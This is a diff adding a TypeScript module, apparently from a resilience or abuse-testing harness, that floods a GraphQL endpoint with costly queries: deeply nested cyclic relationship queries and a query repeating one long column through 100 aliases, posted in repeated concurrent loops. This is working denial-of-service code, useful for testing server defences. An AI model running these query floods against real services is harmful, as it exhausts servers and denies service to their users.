@@ -1,0 +1,28 @@
+import { hostileRequests, repeat, type Attack } from './attack.ts';
+
+const AT_ONCE = 2;
+const PAUSE_MS = 200;
+const ADDRESS = '203.0.113.5';
+const TIMES = 3;
+const ALIASES = 100;
+
+/** Relationships that lead back: each level has 300 times as many rows. */
+const CYCLES = `{ newsletters { ${'deliveries { newsletter { '.repeat(TIMES)}id${' } }'.repeat(TIMES)} } }`;
+/** One long column many times. */
+const COPIES = `{ legal_pages { ${Array.from({ length: ALIASES }, (_, at) => `c${at}: body`).join(' ')} } }`;
+
+/** Sends short requests with immense answers: cycles of relationships as a program, aliases as a stranger. */
+export const costlyShapes: Attack = (target) => {
+  const requests = hostileRequests(target);
+  const ends = Array.from({ length: AT_ONCE }, () => [
+    repeat(() => requests.post({ query: CYCLES }, { address: ADDRESS, headers: target.writer }), PAUSE_MS),
+    repeat(() => requests.post({ query: COPIES }, { address: ADDRESS }), PAUSE_MS),
+  ]).flat();
+
+  return Promise.resolve({
+    stop: () => {
+      for (const end of ends) end();
+      return Promise.resolve(requests.hangUp());
+    },
+  });
+};
